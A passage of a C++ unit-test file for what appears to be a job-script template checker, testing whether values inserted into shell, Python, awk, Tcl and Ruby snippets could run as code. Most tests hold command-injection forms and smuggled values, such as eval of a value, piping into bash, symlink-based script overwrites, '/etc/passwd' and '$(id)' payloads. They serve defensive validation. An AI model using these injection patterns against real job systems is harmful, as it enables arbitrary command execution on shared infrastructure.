                           "git clone \"%X%\" code\npython3 -c 'import site; site.addsitedir(\"code\")'",
                           "git clone \"%X%\" code\ngit -C code checkout-index -a --prefix=../\npython3 train.py"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  for (const char* form : {"git clone \"%X%\" code\nfind /data -name '*.csv' -exec cp {} . \\;\npython3 train.py",
                           "hf download \"%X%\" --local-dir models\nsed -n 1,5p models/modeling.py\nawk 'END{print NR}' models/a.py",
                           "hf download \"%X%\" --local-dir models\ntimeout 60 sha256sum models/modeling.py\ngit add models/a.py",
                           "hf download \"%X%\" --local-dir models/base\npython3 -c 'from acme.eval import run; run(\"models/base\")'",
                           "LOCAL=/scratch/data\nhf download \"%X%\" --local-dir \"$LOCAL/\"\npython3 /opt/site/verify.py"})
    EXPECT_FALSE(refused(task(form), "value-parsed-as-code")) << form;
}

// A tree downloaded into a directory whose last name is chosen at run time
// (data/${NAME}, "data/$SLURM_JOB_ID") is one of data's: the template's own
// train.py is none of its files, what is named below data or the variable is.
TEST(ValueSinks, TreesUnderARunTimeNameAreInTheirLiteralParent) {
  const std::string get = "clearml-data get --id %X% --copy";
  for (const char* form : {"DATA_DIR=data/${CLEARML_TASK.id}\n@ \"$DATA_DIR\"\npython3 train.py --data \"$DATA_DIR\"",
                           "@ \"data/$SLURM_JOB_ID\"\npython3 train.py"}) {
    std::string body = form;
    body.replace(body.find('@'), 1, get);
    EXPECT_FALSE(refused(task(body), "value-parsed-as-code")) << body;
  }
  for (const char* form : {"DATA_DIR=data/${CLEARML_TASK.id}\n@ \"$DATA_DIR\"\ncd \"$DATA_DIR\"\npython3 train.py",
                           "DATA_DIR=data/${CLEARML_TASK.id}\n@ \"$DATA_DIR\"\npython3 \"$DATA_DIR/prep.py\"",
                           "D=data/${CLEARML_TASK.id}\n@ \"$D\"\nsource \"${D}/env.sh\"",
                           "@ \"data/$SLURM_JOB_ID\"\npython3 data/x/prep.py", "@ \"data/$SLURM_JOB_ID\"\ncd data/*\npython3 train.py",
                           "@ \"data/$SLURM_JOB_ID\"\nbash data/run/setup.sh"}) {
    std::string body = form;
    body.replace(body.find('@'), 1, get);
    EXPECT_TRUE(refused(task(body), "value-parsed-as-code")) << body;
  }
}

// fr31, fr34: code that reads a value and runs only fixed commands (a
// runner's call with literal arguments, of a program that runs nothing
// else) runs none of the value; one more call that could is enough.
TEST(ValueSinks, CodeRunningOnlyFixedCommandsRunsNoValue) {
  const std::string head = "export RUN=\"@\"\npython3 - <<'PY'\nimport os, subprocess\n";
  for (const char* call : {"subprocess.run([\"nvidia-smi\", \"-L\"], capture_output=True, text=True)",
                           "subprocess.check_output(['hostname', '-s'], text=True).strip()", "os.system(\"hostname\")",
                           "subprocess.run(\n  [\"nvidia-smi\", \"--query-gpu=name\", \"--format=csv,noheader\"],\n  check=True)"})
    EXPECT_FALSE(refused(with(head + "print(os.environ['RUN'], " + call + ")\nPY"), "value-parsed-as-code")) << call;
  for (const char* call : {"subprocess.run(os.environ['RUN'], shell=True)", "os.system('echo ' + os.environ['RUN'])",
                           "subprocess.run(['bash', '-c', 'printenv RUN | bash'])", "os.system(\"echo $RUN\")",
                           "subprocess.run(['sh', '-c', 'eval \\x24RUN'])", "subprocess.run(['xargs', 'sh'])",
                           "subprocess.run(f\"echo {os.environ['RUN']}\", shell=True)", "os.system(\"\"\"hostname\"\"\")",
                           "subprocess.run(['hostname'], env=dict(os.environ))"})
    EXPECT_TRUE(refused(with(head + "print(os.environ['RUN'])\n" + call + "\nPY"), "value-parsed-as-code")) << call;
  // import subprocess as sp keeps every use of it a runner.
  EXPECT_TRUE(refused(with("export RUN=\"@\"\npython3 - <<'PY'\nimport os, subprocess as sp\nsp.run(os.environ['RUN'])\n"
                           "subprocess.run(['hostname'])\nPY"),
                      "value-parsed-as-code"));
  // A file of the template's the fixed command names runs; one read as data does not.
  EXPECT_TRUE(refused(with("echo \"echo @\" > step.sh\npython3 -c 'import subprocess; subprocess.run([\"./step.sh\"])'"),
                      "value-parsed-as-code"));
  // Round 103: a file the code itself wrote, the input the command inherits.
  EXPECT_TRUE(refused(with("export RUN=\"@\"\npython3 -c 'import os, subprocess\nopen(\"r.sql\", \"w\").write(os.environ[\"RUN\"])\n"
                           "subprocess.run([\"sqlite3\", \"-init\", \"r.sql\", \"runs.db\"])'"),
                      "value-parsed-as-code"));
  EXPECT_TRUE(refused(with("printf \"%s\\n\" \"@\" | python3 -c 'import os; os.system(\"sqlite3 runs.db\")'"),
                      "value-parsed-as-code"));
  EXPECT_FALSE(refused(with("echo \"run: @\" > cfg.yaml\npython3 -c 'import subprocess, yaml; "
                            "print(yaml.safe_load(open(\"cfg.yaml\")), subprocess.run([\"hostname\"]))'"),
                       "value-parsed-as-code"));
}

// fr31/03: code that writes a data file under a name of its own
// (open("meta.json", "w")) wrote no script a later python3 train.py runs.
TEST(ValueSinks, ScriptsRunAreFilesTheirWriterNames) {
  const std::string writer = "python3 - <<'PY'\nimport json\njson.dump({}, open(\"meta.json\", \"w\"))\nPY\n";
  EXPECT_FALSE(refused(with("#SBATCH --partition=@\n" + writer + "python3 train.py"), "value-parsed-as-code"));
  EXPECT_TRUE(refused(with("#SBATCH --partition=@\npython3 - <<'PY'\nimport os\nopen(\"train.py\", \"w\").write("
                           "os.environ[\"SLURM_JOB_PARTITION\"])\nPY\npython3 train.py"),
                      "value-parsed-as-code"));
}

// Round 102: a logging configuration under any name, ruby's IO methods
// and R's and Tcl's pipes, Tcl's environment and substitution, go-task,
// and the shared object enable -f loads.
TEST(ValueSinks, LoggingConfigsPipesTclGoTaskAndEnableOfTheHundredAndSecondReview) {
  for (const char* form :
       {"cat > loggers.ini <<EOF\n[handlers]\nkeys=r\n[handler_r]\nclass=handlers.RotatingFileHandler\nargs=('a.log', 'a', %X%)\nEOF\n"
        "python3 train.py --log-config loggers.ini",
        "export RUN=\"%X%\"\nruby -e 'n = ENV.fetch(\"RUN\"); IO.readlines(\"|du -sh \" + n)'",
        "export RUN=\"%X%\"\nruby -e 'IO.foreach(\"|ls \" + ENV[\"RUN\"]) { |l| puts l }'",
        "export RUN=\"%X%\"\nRscript -e 'n <- Sys.getenv(\"RUN\"); pipe(paste(\"du -sh\", n))'",
        "export RUN=\"%X%\"\ntclsh <<'TCL'\nset n $::env(RUN)\nputs [exec sh -c \"du -sh $n\"]\nTCL",
        "export RUN=\"%X%\"\ntclsh <<'TCL'\nputs [subst $env(RUN)]\nTCL",
        "export RUN=\"%X%\"\ntclsh <<'TCL'\nset f [open \"|du -sh $::env(RUN)\" r]\nTCL",
        "T=\"%X%\"\nenable -f \"plugins/$T/csv.so\" csv"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code") || refused(task(form), "placeholder-command")) << form;
  // A data file with a [section] of its own is no logging configuration.
  EXPECT_FALSE(refused(task("cat > run.ini <<EOF\n[run]\nname=%X%\nEOF\npython3 train.py --config run.ini"),
                       "value-parsed-as-code"));
}

// fr35: sed's and awk's program words are no file names (sed -n
// "${N}p" reads no file the template wrote), and a variable only ever
// given one literal path names that file when read, as when written.
TEST(ValueSinks, ProgramWordsAndConstantPathsNameNoWrittenFile) {
  const std::string log = "echo \"%X%\" > logs/run.log\n";
  for (const char* form : {"LINE=$(sed -n \"${SLURM_ARRAY_TASK_ID}p\" /shared/grid.tsv)\necho \"$LINE\"",
                           "LINE=$(awk -v i=\"$N\" 'NR==i' /shared/grid.tsv)\necho \"$LINE\"",
                           "LINE=$(sed -e \"${N}p\" -n /shared/grid.tsv)\necho \"$LINE\""})
    EXPECT_TRUE(rules(task(log + form)).empty()) << form;
  EXPECT_FALSE(rules(task(log + "LINE=$(sed -f \"$S\" /shared/grid.tsv)\necho \"$LINE\"")).empty());
  // What echo gets from a file that holds the name may start with '-'.
  const auto renders = [&](const std::string& path) {
    sg::compiler::Source source("t.tpl", kHead + "echo \"${CLEARML_TASK.name}\" > logs/run.log\nP=" + path +
                                             "\nLR=$(cat \"$P\")\necho \"$LR\"\n");
    const auto c = sg::compiler::compile(source);
    if (!c.renderer) return false;
    sg::render::Values values;
    values.task = {{"id", "0123456789abcdef"}, {"name", "resnet50-baseline-7"}};
    std::string script;
    std::vector<sg::render::RenderError> errors;
    return c.renderer->render(values, script, errors);
  };
  EXPECT_TRUE(renders("/shared/grid.tsv"));
  EXPECT_FALSE(renders("logs/run.log"));
}

// Round 105: the file a value names may be one that holds values (the
// job's own output log, another job's): what cat or head print of it is
// the value's, as a choice of code.
TEST(ValueSinks, WhatAFileAValueNamesHoldsIsTheValues) {
  for (const char* form : {"#SBATCH --output=train.log\necho \"%X%\"\nL=$(head -n 1 \"logs/%X%.log\")\neval \"$L\"",
                           "cat \"/x/%X%.txt\" | bash", "L=$(cat \"/cfg/%X%.sh\")\neval \"$L\""})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
}

// Round 104: code that sets the environment of a fixed command, writes a
// script under a name it computes or through a logging handler, a link
// that makes two names one file, and a directory's files a loader reads.
TEST(ValueSinks, EnvironmentsComputedNamesLinksAndLoadersOfTheHundredAndFourthReview) {
  for (const char* form :
       {"export T=\"%X%\"\npython3 - <<'PY'\nimport os, subprocess\nos.environ[\"TAR_OPTIONS\"] = os.environ[\"T\"]\n"
        "subprocess.run([\"tar\", \"-czf\", \"o.tgz\", \"o\"])\nPY",
        "export S=\"%X%\"\npython3 - <<'PY'\nimport os\nstage = \"launch\"\nopen(stage + \".sh\", \"w\").write(\"echo \" + "
        "os.environ[\"S\"])\nPY\nbash launch.sh",
        "export S=\"%X%\"\npython3 - <<'PY'\nimport os, logging\nlogging.basicConfig(filename=\"launch.sh\", format=\"%(message)s\")\n"
        "logging.warning(os.environ[\"S\"])\nPY\nbash launch.sh",
        "cat > epilog.sh <<'EOF'\necho done\nEOF\nln -sf epilog.sh meta.txt\necho \"%X%\" >> meta.txt\nbash epilog.sh",
        // (A target nothing wrote by its own name; attack 206.)
        "mkdir -p a\nln -sfn a/job_env.sh run.info\necho \"export N=\\\"%X%\\\"\" > run.info\nsource a/job_env.sh",
        "ln -s job.sh run.info\necho \"echo %X%\" > run.info\nbash job.sh",
        "mkdir -p t\ncat > t/r.j2 <<EOF\n%X%\nEOF\npython3 - <<'PY'\nimport jinja2\n"
        "e = jinja2.Environment(loader=jinja2.FileSystemLoader(\"t\"))\nfor n in e.list_templates(): print(e.get_template(n).render())\nPY"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // A name the code writes out is the only one it writes.
  EXPECT_TRUE(rules(task("export S=\"%X%\"\npython3 - <<'PY'\nimport os, json\njson.dump({\"s\": os.environ[\"S\"]}, "
                         "open(\"meta.json\", \"w\"))\nPY\nbash launch.sh"))
                  .empty());
}

// Thirty-fourth diff review: a fixed command is no longer one when the
// module is used another way, the call chooses its program, input or
// environment, or its program runs commands of its own; sed's and awk's
// attached and gawk's options give their program; a logging config
// written by a group or <<- body; "$P" of a list of names; inline code
// that finds the files it rewrites; perl's, awk's and ruby's pipes.
TEST(ValueSinks, FixedCommandsAndProgramWordsOfTheThirtyFourthDiffReview) {
  const std::string env = "export RUN=\"%X%\"\n";
  for (const char* form :
       {"python3 -c 'import os; from subprocess import run; os.system(\"hostname\"); run([\"bash\", \"-c\", os.environ[\"RUN\"]])'",
        "python3 -c 'import os, subprocess; subprocess.run([\"hostname\"]); sp = subprocess; sp.run(os.environ[\"RUN\"], shell=True)'",
        "python3 -c 'import subprocess  as sp, os; os.system(\"hostname\"); sp.run(os.environ[\"RUN\"], shell=True)'",
        "python3 -c 'import os, subprocess; subprocess.Popen([\"cat\"], executable=\"/bin/sh\", stdin=subprocess.PIPE)"
        ".communicate(os.environ[\"RUN\"].encode())'",
        "python3 -c 'import os, subprocess; subprocess.Popen([\"split\", \"-l\", \"1\", \"--filter=sh\"], stdin=subprocess.PIPE)"
        ".communicate(os.environ[\"RUN\"].encode())'",
        "python3 -c 'import os, subprocess; os.chdir(os.environ[\"RUN\"]); subprocess.run([\"ls\"])'",
        "perl -e 'open(my $p, \"|-\", \"sh\"); print $p $ENV{RUN}'", "awk 'BEGIN { c = \"sh\"; print ENVIRON[\"RUN\"] | c }'",
        "ruby -e 'require \"open3\"; Open3.capture2(\"sh\", stdin_data: ENV[\"RUN\"])'"})
    EXPECT_TRUE(refused(task(env + form), "value-parsed-as-code")) << form;
  const std::string name = "printf '%s\\n' \"%X%\" > run-name.txt\n";
  for (const char* form : {"sed -fstrip.sed *.txt > job.sh\nbash job.sh", "sed -es/^/x/ *.txt > job.sh\nbash job.sh",
                           "sed --quiet --separate *.txt > job.sh\nbash job.sh", "awk -E *.txt data.csv",
                           "P=\"prologue.sh run-name.txt\"\ncat $P > job.sh\nbash job.sh"})
    EXPECT_TRUE(refused(task(name + form), "value-parsed-as-code")) << form;
  for (const char* form : {"{\n  echo \"[loggers]\"; echo \"keys=root\"\n  echo \"[handler_main]\"\n  echo \"class=%X%\"\n} > l.ini\n"
                           "python3 train.py --log-config l.ini",
                           "cat > l.ini <<-EOF\n\t[handlers]\n\tkeys=main\n\t[handler_main]\n\tclass=%X%\n\tEOF\n"
                           "python3 train.py --log-config l.ini",
                           "python3 - \"%X%\" <<'PY'\nimport sys, glob\nfor f in glob.glob(\"*.py\"):\n    src = open(f).read()\n"
                           "    open(f, \"w\").write(sys.argv[1] + src)\nPY\npython3 train.py"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // Dotted modules and several statements on an import line keep fixed commands fixed.
  EXPECT_FALSE(refused(task(env + "python3 -c 'import os, subprocess, urllib.request; print(os.environ[\"RUN\"]); "
                                  "subprocess.run([\"hostname\"])'"),
                       "value-parsed-as-code"));
}

// fr35/04: printf with a format of the template's own whose conversions
// are all %s prints its arguments as they are; %b decodes them.
TEST(ValueSinks, PrintfOfStringsPrintsValuesAsTheyAre) {
  for (const char* form : {"msg=$(printf 'run %s lr=%s' \"@\" 0.1)\necho \"$msg\" | tee -a job.log",
                           "msg=$(printf '[%s] %-10s' \"$(date +%FT%T)\" \"@\")\necho \"$msg\""})
    EXPECT_TRUE(rules(with(form)).empty()) << form;
  for (const char* form : {"msg=$(printf '%b' \"@\")\necho \"$msg\"", "msg=$(printf \"$F\" \"@\")\necho \"$msg\"",
                           "msg=$(printf '%s' \"@\" | base64 -d)\necho \"$msg\"",
                           "msg=$(printf '%s' \"$(echo @ | base64 -d)\")\necho \"$msg\""})
    EXPECT_FALSE(rules(with(form)).empty()) << form;
  // Review 35: the format is one word; substitutions only of programs that read nothing.
  for (const char* form : {"msg=$(printf '%s'%5b \"@\")\necho \"$msg\"",
                           "msg=$(printf '%s %s' \"$(base64 -d f)\" \"@\")\ntar $msg"})
    EXPECT_FALSE(rules(with(form)).empty()) << form;
}

// Round 105: awk's input files may be NAME=VALUE assignments; python
// runs commands through pexpect, sh and plumbum and finds callables by
// name through pkgutil and entry points.
TEST(ValueSinks, AwkAssignmentsAndPythonRunnersOfTheHundredAndFifthReview) {
  namespace R = sg::render;
  const auto pl = placement(task("awk -v out=s.txt '{ print > out }' \"%X%\""));
  EXPECT_TRUE(pl.roles.has(R::ElementRole::AwkOperand));
  EXPECT_NE(pl.roles.check("out=/home/u/.bashrc"), nullptr);
  EXPECT_EQ(pl.roles.check("runs/lr=0.1/metrics.csv"), nullptr);
  EXPECT_FALSE(placement(task("awk -F, '{ print $1 }' data/%X%.csv")).roles.check("a=b") == nullptr);
  for (const char* code : {"import os, pexpect; pexpect.run(\"bash -c 'x %s'\" % os.environ[\"RUN\"])",
                           "import os, pkgutil; pkgutil.resolve_name(os.environ[\"RUN\"])()",
                           "import os, builtins; vars(builtins)[\"ex\" \"ec\"](os.environ[\"RUN\"])"})
    EXPECT_TRUE(refused(task(std::string("export RUN=\"%X%\"\npython3 - <<'PY'\n") + code + "\nPY"), "value-parsed-as-code"))
        << code;
}

// Review 35: perl's -n code that opens or evaluates what it reads, and a
// value cut before it fills an awk operand.
TEST(ValueSinks, PerlLoopsThatRunWhatTheyReadAndCutAwkOperands) {
  for (const char* form : {"perl -ne 'open(F, $_); print <F>' \"%X%\"", "perl -pe 's{(.*)}{$1}ee' \"%X%\""})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  const auto pl = placement(task("D=\"%X%\"\nawk '{ print > out }' \"${D##*/}\""));
  EXPECT_NE(pl.roles.check("shards/out=x"), nullptr);
}

// fr36/11: "${LAUNCHER[@]}" in command position runs the array's
// elements when its program is written out first.
TEST(ValueSinks, ALauncherArrayRunsItsElements) {
  EXPECT_TRUE(rules(task("LAUNCHER=(torchrun --nnodes \"$SLURM_NNODES\" --nproc_per_node 4)\n"
                         "\"${LAUNCHER[@]}\" /opt/site/train.py --run-name \"%X%\""))
                  .empty());
  for (const char* form : {"X=\"%X%\"\nL=(bash -c \"$X\")\n\"${L[@]}\"", "L=(bash -c)\n\"${L[@]}\" \"%X%\"",
                           "P=python3\nL=(\"$P\" t.py)\nL[0]=eval\n\"${L[@]}\" \"%X%\"",
                           // Round 108: the array set another way, or holding another array's words.
                           "L=(torchrun -x)\ndeclare -n R=L\nR=(bash -c)\n\"${L[@]}\" \"%X%\"",
                           "L=(torchrun -x)\neval \"L=(bash -c)\"\n\"${L[@]}\" \"%X%\"",
                           "set_l() { local -n out=$1; out=(bash -c); }\nL=(torchrun -x)\nset_l L\n\"${L[@]}\" \"%X%\"",
                           "L=(torchrun -x)\ndeclare -a L=(bash -c)\n\"${L[@]}\" \"%X%\"",
                           "S=(bash -c)\nL=(\"${S[@]}\")\n\"${L[@]}\" \"%X%\""})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  // fr89/01: a value written among the elements is the program's argument,
  // with the rules of where it stands there; never the program itself.
  for (const char* form : {"CMD=(python3 train.py --model \"%X%\")\n\"${CMD[@]}\"",
                           "CMD=(python3 train.py --model \"%X%\")\nsrun \"${CMD[@]}\""}) {
    EXPECT_TRUE(rules(task(form)).empty()) << form;
    const auto pl = placement(task(form));
    EXPECT_TRUE(refuses(pl, "-cimport os")) << form;
    EXPECT_FALSE(refuses(pl, "resnet 50")) << form;
  }
  for (const char* form : {"CMD=(\"%X%\" train.py)\n\"${CMD[@]}\"", "CMD=(srun \"%X%\" train.py)\n\"${CMD[@]}\"",
                           "CMD=(env \"%X%\" python3 t.py)\n\"${CMD[@]}\""})
    EXPECT_TRUE(refused(task(form), "placeholder-command")) << form;
  EXPECT_TRUE(refused(task("CMD=(bash -c \"%X%\")\n\"${CMD[@]}\""), "value-parsed-as-code"));
  // The files the words write are written (cp base.yaml train.py).
  for (const char* form : {"L=(cp base.yaml \"%X%\")\n\"${L[@]}\"", "O=\"%X%\"\nL=(cp base.yaml \"$O\")\n\"${L[@]}\"",
                           "O=\"%X%\"\nCMD=\"cp base.yaml $O\"\n$CMD", "L=(tee -a \"%X%\")\necho done | \"${L[@]}\""}) {
    const auto pl = placement(task(form));
    EXPECT_TRUE(refuses(pl, "train.py")) << form;
    EXPECT_TRUE(refuses(pl, "libx.so")) << form;
    EXPECT_FALSE(refuses(pl, "run.yaml")) << form;
  }
}

// fr36/07: $CMD unquoted of a command line the template writes out, its
// program first, runs those words: a value in them is an argument, split
// and checked as the same words written out would be.
TEST(ValueSinks, ACommandStringRunsItsWords) {
  for (const char* form : {"LR=\"%X%\"\nCMD=\"python3 /opt/site/x.py --lr $LR\"\nsrun $CMD",
                           "LR=\"%X%\"\nCMD=\"python3 /opt/site/x.py --lr $LR\"\n$CMD --epochs 3",
                           // (round 111 fr-01: CMD names a command line, no file of commands)
                           "LR=\"%X%\"\nCMD=\"python3 /opt/x.py --lr $LR\"\necho \"$CMD\" >> history.txt\n$CMD 2>&1 | tee -a train.log"}) {
    EXPECT_TRUE(rules(task(form)).empty()) << form;
    const auto pl = placement(task(form));
    EXPECT_TRUE(refuses(pl, "0.1 -c x")) << form;  // split into words
    EXPECT_FALSE(refuses(pl, "0.1")) << form;
  }
  // Round 111: a runner's option among those words keeps its rules.
  for (const char* form : {"WD=\"%X%\"\nCMD=\"srun --chdir=$WD python3 train.py\"\n$CMD",
                           "WD=\"%X%\"\nL=(srun --chdir=\"$WD\" python3)\n\"${L[@]}\" train.py",
                           "L=(srun --chdir=\"%X%\" python3)\n\"${L[@]}\" train.py"}) {
    const auto pl = placement(task(form));
    EXPECT_TRUE(refuses(pl, "/tmp/evil")) << form;
    EXPECT_FALSE(refuses(pl, "outputs/run_7")) << form;
  }
  // Round 114 fr-01: words appended with += or "$CMD ..." follow it.
  for (const char* form : {"N=\"%X%\"\nCMD=\"python3 train.py\"\nCMD+=\" --name ${N}\"\nsrun $CMD",
                           "N=\"%X%\"\nCMD=\"python3 train.py\"\n[ -n \"$Y\" ] && CMD=\"$CMD --name $N\"\nCMD=\"${CMD} -v\"\n$CMD"}) {
    EXPECT_TRUE(rules(task(form)).empty()) << form;
    const auto pl = placement(task(form));
    EXPECT_TRUE(refuses(pl, "x -c y")) << form;
    EXPECT_FALSE(refuses(pl, "myrun")) << form;
  }
  // Appended where the script or an option's argument goes, the value is
  // that (any append skipped, as under an if); not followed: an append a
  // loop or a function may run again in another order (review 37: -c twice
  // makes the value python's code), one before any text, one glued to the
  // last word, more appends than are worth trying.
  for (const char* form : {"S=\"%X%\"\nCMD=python3\nCMD+=\" $S\"\n$CMD", "S=\"%X%\"\nCMD=\"python3 $S\"\n$CMD"}) {
    EXPECT_TRUE(refuses(placement(task(form)), "-cprint(1)")) << form;  // python3 -cprint(1)
    EXPECT_TRUE(refuses(placement(task(form)), "/tmp/evil.py")) << form;
  }
  EXPECT_TRUE(refuses(placement(task("WD=\"%X%\"\nCMD=\"srun --chdir\"\nCMD+=\" $WD\"\nCMD+=\" python3 x.py\"\n$CMD")),
                      "/tmp/evil"));
  for (const char* form : {"V=\"%X%\"\nCMD=\"python3 -W\"\nfor i in 1 2; do\n  [ $i = 1 ] && CMD+=\" -c\"\n  [ $i = 2 ] && CMD+=\" $V run.py\"\ndone\n$CMD",
                           "V=\"%X%\"\nCMD=\"python3 -W\"\nadd() { CMD+=\" $1\"; }\nadd -c\nadd \"$V\"\n$CMD",
                           "N=\"%X%\"\nCMD+=\" --name $N\"\nCMD=\"python3 x.py\"\n$CMD",
                           "N=\"%X%\"\nCMD=\"python3 x.py\"\nCMD+=\"--name=$N\"\n$CMD",
                           "N=\"%X%\"\nCMD=\"python3 x.py\"\nCMD+=\" -a\"\nCMD+=\" -b\"\nCMD+=\" -c\"\nCMD+=\" -d\"\n"
                           "CMD+=\" -e\"\nCMD+=\" --name $N\"\n$CMD"})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  // (An array's element "$N" is one word, here an option's value.)
  EXPECT_TRUE(rules(task("N=\"%X%\"\nL=(torchrun --nproc_per_node \"$N\" --master_port 1234)\n\"${L[@]}\" train.py")).empty());
  // Not when the program is a value, another shell reads the words, or
  // something else sets the variable.
  // A placeholder written among them is the command's: the rules of where
  // it stands read the template's own words (round 111: srun --chdir=).
  for (const char* form : {"CMD=\"%X% /opt/site/x.py\"\n$CMD", "CMD=\"srun -N2 %X% python3\"\n$CMD",
                           "CMD=\"python3 /opt/site/x.py --lr %X%\"\n$CMD --epochs 3",
                           "CMD=\"srun --chdir=%X% python3 train.py\"\n$CMD",
                           "CMD=\"bash -c %X%\"\n$CMD", "CMD=\"python3 x.py\"\n[ -n \"$Y\" ] && CMD=\"bash -c\"\n$CMD \"%X%\"",
                           "CMD=\"python3 x.py %X%\"\nread CMD < f\n$CMD", "P=\"%X%\"\nCMD=\"$P x.py\"\n$CMD",
                           "CMD=\"python3 x.py %X%\"\neval \"CMD=bash\"\n$CMD"})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
}

// Round 110 (fr-01, fr-02): a for loop's list and printf's operands with
// a format that prints each on a line: each word is one value, and meets
// every rule the placeholder meets where the loop variable or the file goes.
// fr hunt 89: what read gets from < FILE is the file's text, not the
// values in its name; a here-string or <(...) feeds its own text.
TEST(ValueSinks, AFileRedirectFeedsItsTextNotItsName) {
  const char* name = "RUN=\"%X%\"\nprintf '%s\\n' lr=1 > \"runs/$RUN.txt\"\n";
  EXPECT_FALSE(refuses(placement(task(std::string(name) + "while read -r line; do echo \"$line\"; done < \"runs/$RUN.txt\"")),
                       "exp-01"));
  for (const char* feed : {"while read -r line; do python3 t.py $line; done <<< \"$RUN\"",
                           "while read -r line; do python3 t.py $line; done < <(echo \"$RUN\")"})
    EXPECT_TRUE(refuses(placement(task(std::string(name) + feed)), "x -c y")) << feed;
}

TEST(ValueSinks, WordListsOfLoopsAndLinesAreValuesEach) {
  const auto render = [](const std::string& body, const std::string& value) {
    sg::compiler::Source source("t.tpl", kHead + words_at(body) + "\n");
    const auto c = sg::compiler::compile(source);
    if (!c.renderer) return false;
    sg::render::Values values;
    values.task = {{"id", "0123456789abcdef"}, {"hyperparams", {{"Args", {{"extra", {{"value", value}}}}}}}};
    std::string script;
    std::vector<sg::render::RenderError> errors;
    return c.renderer->render(values, script, errors);
  };
  for (const char* form : {"for W in %W%; do srun python3 t.py --width \"$W\"; done",
                           "printf '%s\\n' %W% > layers.txt\nsrun python3 t.py --layers-file layers.txt",
                           "printf 'host %s\\n' %W% > hosts.txt"}) {
    EXPECT_TRUE(rules(words_at(form) + "\n").empty()) << form;
    EXPECT_TRUE(render(form, "64 128 256")) << form;
  }
  EXPECT_FALSE(render("for W in %W%; do python3 t.py \"$W\"; done", "64 -c"));  // an option
  EXPECT_FALSE(render("for W in %W%; do python3 t.py $W; done", "64 *"));     // a glob
  EXPECT_FALSE(render("for W in %W%; do echo $((W + 1)); done", "1 x[$(id)]"));
  EXPECT_FALSE(render("for W in %W%; do python3 t.py fit --model=\"$W\"; done", "a os.system"));
  // (Round 112) a quoted word holding a line break; a line GNU tar -T reads as an option.
  EXPECT_FALSE(render("printf 'data/%s\\n' %W% > list.txt", "a b\x01c"));
  EXPECT_FALSE(render("printf '%s\\n' %W% > list.txt\ntar -czf o.tgz -T list.txt", "a --directory=/tmp"));
  EXPECT_TRUE(render("printf '%s\\n' %W% > list.txt\ntar -czf o.tgz -T list.txt", "a b"));
  // fr hunt 78: module load's words are modules, each with a module's rule.
  for (const char* form : {"module load %W%", "ml load %W%", "module add %W%"}) {
    EXPECT_TRUE(rules(words_at(form) + "\n").empty()) << form;
    EXPECT_TRUE(render(form, "gcc/12.2.0 openmpi/4.1.5 cuda/12.1")) << form;
    for (const char* value : {"gcc -f", "/opt/evil/mod", "a ../../x", "gcc ~/m"})
      EXPECT_FALSE(render(form, value)) << form << " with " << value;
  }
  EXPECT_FALSE(rules(words_at("ml %W%") + "\n").empty());  // (a word could be ml's subcommand: unload)
  // fr hunt 81: a whole element of an indexed array's list; each word has the rules of where the elements go.
  for (const char* form : {"LRS=(%W%)\nsrun python3 t.py --lr \"${LRS[$SLURM_ARRAY_TASK_ID]}\"",
                           "declare -a A=(--lr %W%)\npython3 t.py \"${A[@]}\"", "A=(\n  %W%\n)\necho \"${#A[@]}\""}) {
    EXPECT_TRUE(rules(words_at(form) + "\n").empty()) << form;
    EXPECT_TRUE(render(form, "0.1 0.03 3e-4")) << form;
  }
  for (const char* value : {"0.1 -c", "x /etc/passwd", "x ../../y"})
    EXPECT_FALSE(render("A=(%W%)\nfor x in \"${A[@]}\"; do cp run.log \"$x\"; done", value)) << value;
  // (Quoted, an element is no pattern: '*' names a file, as cp run.log "$X" may.)
  EXPECT_TRUE(render("A=(%W%)\nfor x in \"${A[@]}\"; do cp run.log \"$x\"; done", "0.1 *"));
  for (const char* form : {"A=(%W%)\nsrun \"${A[@]}\"", "A=(%W%)\neval \"${A[0]}\"", "A=(x%W%)", "A=(\"%W%\")",
                           "declare -A M=(%W%)", "declare -A M\nM=(%W%)"})
    EXPECT_FALSE(rules(words_at(form) + "\n").empty()) << form;
  for (const char* form : {"for W in %W%; do eval \"$W\"; done", "for W in %W%; do $W; done",
                           "printf '%s\\n' %W% > run.sh\nbash run.sh", "printf '%s\\n' %W% | bash",
                           "printf '%s' %W% > f.txt", "printf '%b\\n' %W% > f.txt", "printf \"$F\" %W% > f.txt",
                           "printf '%s %s\\n' %W% > f.txt"})
    EXPECT_FALSE(rules(words_at(form) + "\n").empty()) << form;
}

// attack109 fr-02: an srun option array's element after an option that
// takes the next word is that option's argument; an array is never in a
// program's environment, so SRUN_ARGS=(...) is no input variable of srun.
TEST(ValueSinks, AnOptionArraysElementAfterItsOptionIsItsArgument) {
  for (const char* form : {"SRUN_ARGS=(--ntasks=1 --job-name \"%X%\" -l)\nsrun \"${SRUN_ARGS[@]}\" python3 train.py",
                           "STEP_OPTS=(--ntasks=1 -J \"%X%\" -l)\nsrun \"${STEP_OPTS[@]}\" python3 train.py",
                           // (round 112 fr-01) lists appended under an if, each option with its argument
                           "O=(-l)\nif [[ -n \"$IMG\" ]]; then O+=(--job-name \"%X%\" --container-mounts \"$PWD/d:/d\"); fi\n"
                           "srun \"${O[@]}\" python3 train.py",
                           // (round 112 fr-02) declared as an array
                           "declare -a O=(--job-name \"%X%\" -l)\nsrun \"${O[@]}\" python3 train.py",
                           "f() {\n  local -a O=(--job-name \"%X%\")\n  srun \"${O[@]}\" python3 train.py\n}\nf"})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  // (Not -i, whose elements are arithmetic, nor a nameref.)
  for (const char* form : {"declare -ai O=(--job-name \"%X%\" -l)\nsrun \"${O[@]}\" python3 train.py",
                           "declare -n O=P\nP=(--job-name \"%X%\")\nsrun \"${O[@]}\" python3 train.py"})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  EXPECT_FALSE(refuses(placement(task("O=(-l)\nO+=(--job-name \"%X%\" --container-mounts \"$PWD/d:/d\")\n"
